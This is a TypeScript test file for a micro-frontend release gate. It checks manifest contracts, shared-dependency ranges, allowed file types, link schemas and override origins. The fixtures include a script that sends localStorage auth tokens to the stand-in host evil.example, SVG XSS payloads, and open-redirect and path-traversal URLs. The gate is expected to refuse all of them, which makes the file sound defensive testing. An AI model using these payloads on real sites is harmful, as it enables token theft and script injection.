// The gate as a pure function, against a host contract read from a built host's manifest; and the
// parts of a request it relies on (If-Match, override origins).
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { writeRemoteBuild } from '../../test/remote-builds';
import { checkRelease } from './gate';
import { hostContract, packageOf } from './host-contract';
import { overrideOriginAllowed } from './overrides';
import { expectedLive } from './release-store';

describe('the release gate', () => {
  let dir: string;
  beforeEach(() => { dir = mkdtempSync(path.join(tmpdir(), 'gate-')); });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  test('the host\'s contract comes from its built manifest when there is one, else from the repository', () => {
    writeFileSync(path.join(dir, 'mf-manifest.json'), JSON.stringify({ metaData: { portal: { contractVersion: '2.4.1', shared: { react: '19.1.0', 'antd/es/button': '6.0.0' } } } }));
    const built = hostContract(dir);
    expect([built.contractVersion, built.provided('react'), built.provided('antd/es/button'), built.provided('antd/es/table')]).toEqual(['2.4.1', '19.1.0', '6.0.0', undefined]);
    const repository = hostContract(undefined);
    expect(repository.contractVersion).toMatch(/^\d+\.\d+\.\d+$/);
    expect(repository.provided('antd/es/button')).toBe(repository.provided('antd'));
    expect(repository.provided('react/jsx-runtime')).toBe(repository.provided('react'));
    expect(repository.provided('../../etc')).toBeUndefined();
    expect([packageOf('react-dom/client'), packageOf('@portal/shared'), packageOf('@reduxjs/toolkit/query')]).toEqual(['react-dom', '@portal/shared', '@reduxjs/toolkit']);
  });

  test('a build within the host\'s contract passes; each difference is one reason', async () => {
    const host = { contractVersion: '2.4.1', provided: (pkg: string) => ({ react: '19.1.0' })[pkg] };
    const build = (portal: Record<string, unknown>) => {
      rmSync(dir, { recursive: true, force: true });
      return checkRelease(writeRemoteBuild(dir, 'comms', { portal: { contractVersion: '2.3.0', shared: { react: '^19.0.0' }, ...portal } }), 'comms', host);
    };
    const passed = await build({});
    expect(passed.ok && passed.release).toMatchObject({ remoteEntry: 'remoteEntry.js', contentHash: expect.stringMatching(/^[0-9a-f]{64}$/), meta: { name: 'comms' } });
    const codes = async (portal: Record<string, unknown>) => { const r = await build(portal); return r.ok ? [] : r.reasons.map((x) => x.code); };
    expect(await codes({ contractVersion: '2.4.9' })).toEqual([]);
    expect(await codes({ contractVersion: '2.5.0' })).toEqual(['contract_minor']);
    expect(await codes({ contractVersion: '1.9.0' })).toEqual(['contract_major']);
    expect(await codes({ shared: { react: '^18.0.0' } })).toEqual(['shared_range']);
    expect(await codes({ shared: { react: 'not a range' } })).toEqual(['shared_range']);
    expect(await codes({ gitSha: 'XYZ' })).toEqual(['schema']);
    // A manifest of megabytes is not read.
    rmSync(dir, { recursive: true, force: true });
    const folder = writeRemoteBuild(dir, 'comms', { portal: { contractVersion: '2.3.0', shared: { react: '^19.0.0' } } });
    writeFileSync(path.join(folder, 'mf-manifest.json'), `{"pad":"${'x'.repeat(1024 * 1024)}"}`);
    const huge = await checkRelease(folder, 'comms', host);
    expect(huge.ok ? [] : huge.reasons.map((x) => x.code)).toEqual(['schema']);
  });

  test('a release holds only the files a built remote is made of; an HTML page or an SVG with script is refused with file_type (issue 30 item 2)', async () => {
    const host = { contractVersion: '2.4.1', provided: (pkg: string) => ({ react: '19.1.0' })[pkg] };
    const build = async (extra: Record<string, string | Buffer>) => {
      rmSync(dir, { recursive: true, force: true });
      const folder = writeRemoteBuild(dir, 'comms', { portal: { contractVersion: '2.3.0', shared: { react: '^19.0.0' } } });
      for (const [name, bytes] of Object.entries(extra)) {
        mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
        writeFileSync(path.join(folder, name), bytes);
      }
      const result = await checkRelease(folder, 'comms', host);
      return result.ok ? [] : result.reasons.map((reason) => `${reason.code}: ${reason.words.en.split('"')[1]}`);
    };
    const icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg>';
    expect(await build({ 'a.css': 'b{}', 'a.js.map': '{}', 'a.mjs': '', 'a.js.br': brotliCompressSync(''), 'a.css.gz': gzipSync('b{}'), 'f/x.woff2': '', 'i/x.png': '', 'i/x.webp': '', 'i/icon.svg': icon, 'i/icon.svg.gz': gzipSync(icon) })).toEqual([]);
    expect(await build({ 'steal.html': '<script>fetch("//evil.example?"+localStorage.authTokens)</script>' })).toEqual(['file_type: steal.html']);
    expect((await build({ 'deep/page.htm': '', 'x.txt': '', LICENSE: '', 'a.js.zip': '', 'run.js.exe': '' })).sort()).toEqual(['file_type: LICENSE', 'file_type: a.js.zip', 'file_type: deep/page.htm', 'file_type: run.js.exe', 'file_type: x.txt']);
    for (const svg of ['<svg><script>alert(1)</script></svg>', '<svg onload="alert(1)"/>', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><foreignObject><iframe src="/"/></foreignObject></svg>']) {
      expect(await build({ 'i/evil.svg': svg })).toEqual(['file_type: i/evil.svg']);
      expect(await build({ 'i/evil.svg.br': brotliCompressSync(svg) })).toEqual(['file_type: i/evil.svg.br']);
    }
  });

  test('a menu or widget that leads to another site, or too long or too many, fails the schema (issue 30 item 4)', async () => {
    const host = { contractVersion: '2.4.1', provided: (pkg: string) => ({ react: '19.1.0' })[pkg] };
    const roles = ['manager'];
    const widget = { key: 'w', title: { ru: 'Виджет', en: 'Widget' }, roles, source: '/api/orders/', fields: { title: 'number' }, link: '/orders/:id', more: '/orders' };
    const entry = { key: 'e', label: { ru: 'Раздел', en: 'Area' }, path: '', roles, count: '/api/orders/?status=new' };
    const codes = async (portal: Record<string, unknown>) => {
      rmSync(dir, { recursive: true, force: true });
      const result = await checkRelease(writeRemoteBuild(dir, 'comms', { portal: { contractVersion: '2.3.0', shared: { react: '^19.0.0' }, menu: [entry], widgets: [widget], ...portal } }), 'comms', host);
      return result.ok ? [] : result.reasons.map((reason) => reason.code);
    };
    expect(await codes({})).toEqual([]);
    for (const link of ['//evil.example/:id', '/\\evil.example/:id', 'https://evil.example/']) {
      expect([link, await codes({ widgets: [{ ...widget, link }] })]).toEqual([link, ['schema']]);
      expect([link, await codes({ widgets: [{ ...widget, more: link }] })]).toEqual([link, ['schema']]);
    }
    for (const source of ['/api//evil.example/', '/api/\\evil.example/', '//evil.example/api/']) {
      expect([source, await codes({ widgets: [{ ...widget, source }] })]).toEqual([source, ['schema']]);
      expect([source, await codes({ menu: [{ ...entry, count: source }] })]).toEqual([source, ['schema']]);
    }
    expect(await codes({ menu: [{ ...entry, label: { ru: 'я'.repeat(200), en: 'a' } }] })).toEqual([]);
    expect(await codes({ menu: [{ ...entry, label: { ru: 'я'.repeat(201), en: 'a' } }] })).toEqual(['schema']);
    expect(await codes({ widgets: [{ ...widget, title: { ru: 'a', en: 'b'.repeat(201) } }] })).toEqual(['schema']);
    const many = (n: number) => Array.from({ length: n }, (_, i) => ({ ...entry, key: `e${i}` }));
    expect(await codes({ menu: many(50) })).toEqual([]);
    expect(await codes({ menu: many(51) })).toEqual(['schema']);
    expect(await codes({ widgets: Array.from({ length: 51 }, (_, i) => ({ ...widget, key: `w${i}` })) })).toEqual(['schema']);
  });

  test('a menu entry\'s preload (contract 2.6) is an /api/ path and query, one or one per role; anything else fails the schema', async () => {
    const host = { contractVersion: '2.6.0', provided: (pkg: string) => ({ react: '19.1.0' })[pkg] };
    const entry = { key: 'news', label: { ru: 'Новости', en: 'News' }, path: '', roles: ['dealer', 'manager'] };
    const codes = async (preload: unknown, contractVersion = '2.6.0') => {
      rmSync(dir, { recursive: true, force: true });
      const result = await checkRelease(writeRemoteBuild(dir, 'comms', { portal: { contractVersion, shared: { react: '^19.0.0' }, menu: [{ ...entry, preload }] } }), 'comms', host);
      // Each branch of the schema's anyOf says why it failed: one code all the same.
      return result.ok ? [] : [...new Set(result.reasons.map((reason) => reason.code))];
    };
    // A 2.5 build knows no preload: it passes as it did.
    expect(await codes(undefined, '2.5.0')).toEqual([]);
    for (const preload of ['/api/news/?page=1&page_size=10&ordering=-published_at', '/api/dp/categories/', '/api/claims/?status__in=new,in_review', { dealer: '/api/news/', manager: '/api/newsletters/?page=1' }]) {
      expect([preload, await codes(preload)]).toEqual([preload, []]);
    }
    for (const preload of ['https://evil.example/api/news/', '//evil.example/api/', '/api//evil.example/', '/api/../remotes/x.js', '/api/%2e%2e/x', '/api/news/#top', '/api/news/?q= x',
      '/remotes/comms/x.js', '', `/api/news/?q=${'x'.repeat(500)}`, 7, {}, { visitor: '/api/news/' }, { dealer: 'https://evil.example/' }]) {
      expect([preload, await codes(preload)]).toEqual([preload, ['schema']]);
    }
  });

  test('If-Match: an id, quoted or not, weak or not; * and "" for none; absent is undefined', () => {
    expect(['abc', '"abc"', 'W/"abc"', ' "abc" , "def"'].map(expectedLive)).toEqual(['abc', 'abc', 'abc', 'abc']);
    expect(['*', '""', '"*"'].map(expectedLive)).toEqual([null, null, null]);
    expect(expectedLive(undefined)).toBeUndefined();
  });

  test('override origins: scheme, host and port as listed, `*` any port', () => {
    const allowed = ['http://localhost:*', 'https://dev.example:8443'];
    expect(['http://localhost:3001/mf-manifest.json', 'http://localhost/m.json', 'https://dev.example:8443/m.json'].map((u) => overrideOriginAllowed(u, allowed))).toEqual([true, true, true]);
    expect(['https://localhost:3001/m.json', 'http://localhost.evil.example:3001/m.json', 'https://dev.example/m.json', 'http://user:pw@localhost:3001/m.json', '/relative.json', 'javascript:alert(1)']
      .map((u) => overrideOriginAllowed(u, allowed))).toEqual([false, false, false, false, false, false]);
  });
});
